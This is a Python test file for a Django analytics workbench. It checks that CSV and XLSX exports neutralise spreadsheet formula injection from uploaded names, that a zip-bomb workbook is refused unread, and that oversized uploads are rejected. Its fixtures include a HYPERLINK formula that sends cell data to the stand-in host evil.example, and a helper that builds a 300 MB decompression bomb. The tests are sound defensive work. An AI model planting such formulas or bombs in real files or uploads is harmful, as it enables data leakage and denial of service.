"""Issue 13's workbench apps read as an attacker would: what an uploaded file or a user types
(a column's name, a file's name, a scenario's name) must not become a formula in the CSV and
XLSX files people open in a spreadsheet, and a packed workbook must be refused before it is
unpacked."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from sejahtera.workbench.evaluations import sources
from sejahtera.workbench.evaluations.models import Evaluation, EvaluationInput
from sejahtera.workbench.scenarios import comparison
from workbench_users import signed_in, user_with

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
STARTS = ("=", "+", "-", "@")


@pytest.fixture(autouse=True)
def _places(settings, tmp_path: Path) -> None:
    settings.ALLOWED_HOSTS = ["testserver"]
    settings.DATA_FOLDER = tmp_path / "data"
    settings.DATASETS_ROOT = tmp_path / "datasets"


def _text_cells(rows: list[list[object]]) -> list[str]:
    return [cell for row in rows for cell in row if isinstance(cell, str)]


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _evaluation_with_hostile_names() -> Evaluation:
    """A finished evaluation of an uploaded table whose file and column names are formulas."""
    owner = user_with("analyst")
    table = EvaluationInput.objects.create(
        name="@SUM(1+1).csv",
        stored="x.csv",
        size=1,
        checksum="0" * 64,
        columns=[{"name": FORMULA, "kind": "number"}, {"name": "+nj", "kind": "flag"}],
        uploaded_by=owner,
    )
    estimate = {"check": "main", "term": "-nj", "estimate": -1.5, "se": 0.5, "ci_low": -2.5,
                "ci_high": -0.5, "p_value": 0.01, "n": 10}  # fmt: skip
    return Evaluation.objects.create(
        title="t",
        design="did",
        table=table,
        variables={"outcome": FORMULA, "treatment": "+nj", "covariates": ["@x"]},
        owner=owner,
        state="done",
        result={"estimates": [estimate]},
        estimates=[estimate],
    )


def test_evaluation_estimates_csv_neutralises_names_from_the_uploaded_table() -> None:
    found = _evaluation_with_hostile_names()
    answer = signed_in("officer").get(f"/evaluations/{found.pk}/download.csv")
    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    term = rows[0].index("term")
    assert rows[1][term] == "'-nj"  # the column's name, kept readable but inert
    assert not [c for c in _text_cells(rows) if c.startswith(STARTS) and not _number(c)]
    # The numbers stay numbers: a negative estimate is not quoted.
    assert float(rows[1][rows[0].index("estimate")]) == -1.5


def test_evaluation_estimates_xlsx_has_no_formula_from_the_uploaded_table() -> None:
    found = _evaluation_with_hostile_names()
    answer = signed_in("officer").get(f"/evaluations/{found.pk}/download.xlsx")
    assert answer.status_code == 200
    book = load_workbook(io.BytesIO(answer.content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(STARTS)]
    assert "'" + FORMULA in texts and "'@SUM(1+1).csv" in texts
    numbers = [c.value for c in book["estimates"][2]]
    assert -1.5 in numbers  # the estimate itself is still a number


def test_scenario_comparison_csv_neutralises_a_scenario_name(monkeypatch) -> None:
    rows = [["Figure", "Unit", FORMULA, "+62 812"], ["P0", "%", -1.25, 3.5]]
    monkeypatch.setattr(comparison, "table", lambda chosen, language: rows)
    content, kind = comparison.export([], "id", "csv")
    assert kind.startswith("text/csv")
    read = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert read[0][2:] == ["'" + FORMULA, "'+62 812"]
    assert read[1][2:] == ["-1.25", "3.5"]  # numbers, negative ones too, untouched


def _bomb() -> bytes:
    """A zip that names itself a workbook and unpacks to 300 MB from a few hundred kB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open("xl/sharedStrings.xml", "w", force_zip64=True) as part:
            block = b"\0" * (1 << 20)
            for _ in range(300):
                part.write(block)
    return out.getvalue()


def test_a_zip_bomb_table_is_refused_before_it_is_read(monkeypatch) -> None:
    opened: list[Path] = []
    real = sources.read_table
    monkeypatch.setattr(
        sources, "read_table", lambda path, **kw: opened.append(path) or real(path, **kw)
    )
    analyst = signed_in("analyst")
    answer = analyst.post(
        "/evaluations/tables/new/", {"file": SimpleUploadedFile("data.xlsx", _bomb())}
    )
    assert answer.status_code == 400
    assert "data.xlsx" in answer.content.decode()
    assert opened == []  # never handed to the reader
    assert not EvaluationInput.objects.exists()
    assert not sources.folder().exists() or not list(sources.folder().iterdir())


def test_needs_exports_neutralise_area_names_from_the_data() -> None:
    from sejahtera.workbench.needs.exports import as_csv, as_xlsx

    header = ["Rank", "Area code", "Kecamatan", "Estimate"]
    body = [[1, "3471010", FORMULA, -0.25], [2, "@3471020", "Gondokusuman", 0.5]]
    read = list(csv.reader(io.StringIO(as_csv(header, body).decode("utf-8-sig"))))
    assert read[1] == ["1", "3471010", "'" + FORMULA, "-0.25"]
    assert read[2][1] == "'@3471020"
    book = load_workbook(io.BytesIO(as_xlsx(header, body, "P0", [("note", "=1+1")])))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert [c.value for c in book.active[2]] == [1, "3471010", "'" + FORMULA, -0.25]


MB = 1024 * 1024


def test_an_evaluation_table_over_the_limit_is_refused_as_it_arrives(settings, tmp_path) -> None:
    """As a dataset's files are: counted while they arrive (a file between one and two limits is
    not announced too large), and a body announced larger is refused unread; nothing kept."""
    from django.test import Client

    from sejahtera.workbench.core.tokens import issue

    settings.UPLOAD_MAX_BYTES = MB
    big = tmp_path / "besar.csv"
    big.write_bytes(b"desa,y,d\n" + b"1,2,0\n" * (MB // 6 + 100))
    assert MB < big.stat().st_size < 2 * MB
    client = signed_in("analyst")
    with big.open("rb") as sent:
        page = client.post("/evaluations/tables/new/", {"file": sent})
    assert page.status_code == 400 and "besar.csv lebih besar dari 1 MB" in page.content.decode()
    announced = client.post(
        "/evaluations/tables/new/",
        b"",
        content_type="multipart/form-data; boundary=x",
        CONTENT_LENGTH=str(4 * MB),
    )
    assert announced.status_code == 413 and "1 MB" in announced.content.decode()
    token = {"HTTP_AUTHORIZATION": f"Bearer {issue(user_with('analyst'))}"}
    with big.open("rb") as sent:
        api = Client().post("/api/evaluations/tables", {"file": sent}, **token)
    assert api.status_code == 413 and "besar.csv" in api.json()["detail"]
    assert not EvaluationInput.objects.exists()
